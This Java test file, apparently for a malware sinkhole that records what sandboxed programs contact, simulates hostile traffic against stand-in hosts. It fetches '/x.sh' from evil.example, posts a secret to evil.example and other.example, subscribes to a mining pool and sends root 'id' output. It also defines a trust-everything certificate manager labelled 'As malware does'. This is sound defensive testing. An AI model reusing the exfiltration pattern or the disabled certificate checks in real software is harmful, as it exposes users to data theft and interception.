package dev.lazaret.sinkhole;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.awaitility.Awaitility.await;

import java.net.Socket;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.security.cert.X509Certificate;
import java.util.Arrays;
import java.util.Base64;
import java.util.List;
import javax.net.ssl.SNIHostName;
import javax.net.ssl.SSLContext;
import javax.net.ssl.SSLException;
import javax.net.ssl.SSLParameters;
import javax.net.ssl.SSLSocket;
import javax.net.ssl.TrustManager;
import javax.net.ssl.X509TrustManager;
import org.assertj.core.groups.Tuple;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

final class TlsTalkTest {
  @TempDir Path folder;
  private TestSinkhole sinkhole;

  @BeforeEach
  void open() throws Exception {
    sinkhole = TestSinkhole.watching(folder);
  }

  @AfterEach
  void close() throws Exception {
    sinkhole.close();
  }

  @Test
  void tellsTheNameOfAServerAlsoToWhomTheClientDoesNotTrust() throws Exception {
    try (SSLSocket tls = tls(SSLContext.getDefault(), "evil.example", "evil.example")) {
      assertThatThrownBy(tls::startHandshake).isInstanceOf(SSLException.class);
    }

    Heard.Contacted contact = sinkhole.contact(Protocol.TLS);
    assertThat(contact.said()).isEqualTo("evil.example");
    assertThat(contact.name()).isEqualTo("evil.example");
    assertThat(contact.port()).isEqualTo(443);
  }

  @ParameterizedTest
  @ValueSource(strings = {"TLSv1.2", "TLSv1.3"})
  void speaksHttpInside(String version) throws Exception {
    try (SSLSocket tls = tls(trusting(), "evil.example", "evil.example")) {
      tls.setEnabledProtocols(new String[] {version});
      say(tls, "GET /x.sh HTTP/1.1\r\nHost: evil.example\r\nConnection: close\r\n\r\n");
      assertThat(TestSinkhole.read(tls, "never")).endsWith("echo 'nothing to do'\n");
      X509Certificate shown = (X509Certificate) tls.getSession().getPeerCertificates()[0];
      assertThat(shown.getSubjectAlternativeNames()).containsExactly(List.of(2, "evil.example"));
      shown.verify(tls.getSession().getPeerCertificates()[1].getPublicKey());
    }

    assertThat(sinkhole.contact(Protocol.HTTPS).said()).isEqualTo("GET /x.sh host evil.example");
    assertThat(sinkhole.contacts(Protocol.HTTP)).isEmpty();
  }

  @Test
  void knowsADecoyAtItsOwnServiceFromOneElsewhere() throws Exception {
    post("s3.amazonaws.com", "key=" + TestSinkhole.SECRET);
    post("evil.example", TestSinkhole.SECRET);
    post(
        "other.example",
        Base64.getEncoder().encodeToString(("xy" + TestSinkhole.SECRET).getBytes()));

    await().until(() -> sinkhole.decoys().size() == 3);
    assertThat(sinkhole.decoys())
        .extracting(Heard.DecoySent::name, Heard.DecoySent::protocol, Heard.DecoySent::own)
        .containsExactly(
            Tuple.tuple("s3.amazonaws.com", Protocol.HTTPS, true),
            Tuple.tuple("evil.example", Protocol.HTTPS, false),
            Tuple.tuple("other.example", Protocol.HTTPS, false));
  }

  @Test
  void hearsAMinerInside() throws Exception {
    try (SSLSocket tls = tls(trusting(), "pool.example", "pool.example")) {
      say(tls, "{\"id\":1,\"method\":\"mining.subscribe\",\"params\":[]}\n");
      assertThat(TestSinkhole.read(tls, "\n")).contains("mining.notify");
    }
    assertThat(sinkhole.contact(Protocol.STRATUM).name()).isEqualTo("pool.example");
  }

  @Test
  void hearsOtherWordsInside() throws Exception {
    try (SSLSocket tls = tls(trusting(), "evil.example", "evil.example")) {
      say(tls, "uid=0(root) gid=0(root)\n");
      assertThat(sinkhole.contact(Protocol.TLS_DATA).said())
          .isEqualTo("uid=0(root) gid=0(root)\\x0a");
    }
  }

  @Test
  void speaksFirstInsideWhereAServerDoes() throws Exception {
    String address = sinkhole.resolve("mail.example");
    try (SSLSocket tls = tls(trusting(), sinkhole.connect(address, 465), "mail.example")) {
      assertThat(TestSinkhole.read(tls, "\n")).startsWith("220 ");
      say(tls, "EHLO me\r\n");
      assertThat(TestSinkhole.read(tls, "8BITMIME")).startsWith("250-");
    }
  }

  @Test
  void readsANameOnlyWhereThereIsOne() {
    assertThat(ClientHello.name(new byte[0])).isEmpty();
    assertThat(ClientHello.name(new byte[2000])).isEmpty();
    byte[] garbage = new byte[2000];
    Arrays.fill(garbage, (byte) 0xff);
    assertThat(ClientHello.name(garbage)).isEmpty();
  }

  private void post(String name, String body) throws Exception {
    try (SSLSocket tls = tls(trusting(), name, name)) {
      say(
          tls,
          "POST / HTTP/1.1\r\nConnection: close\r\nContent-Length: "
              + body.length()
              + "\r\n\r\n"
              + body);
      assertThat(TestSinkhole.read(tls, "never")).startsWith("HTTP/1.1 200");
    }
  }

  private SSLSocket tls(SSLContext context, String asked, String name) throws Exception {
    return tls(context, sinkhole.connect(sinkhole.resolve(asked), 443), name);
  }

  private static SSLSocket tls(SSLContext context, Socket socket, String name) throws Exception {
    SSLSocket tls =
        (SSLSocket) context.getSocketFactory().createSocket(socket, name, socket.getPort(), true);
    SSLParameters parameters = tls.getSSLParameters();
    parameters.setServerNames(List.of(new SNIHostName(name)));
    tls.setSSLParameters(parameters);
    return tls;
  }

  private static SSLContext trusting() throws Exception {
    SSLContext context = SSLContext.getInstance("TLS");
    context.init(null, new TrustManager[] {new TrustsEverybody()}, null);
    return context;
  }

  private static void say(Socket socket, String text) throws Exception {
    socket.getOutputStream().write(text.getBytes(StandardCharsets.US_ASCII));
  }

  /** As malware does. */
  private static final class TrustsEverybody implements X509TrustManager {
    @Override
    public void checkClientTrusted(X509Certificate[] chain, String type) {}

    @Override
    public void checkServerTrusted(X509Certificate[] chain, String type) {}

    @Override
    public X509Certificate[] getAcceptedIssuers() {
      return new X509Certificate[0];
    }
  }
}
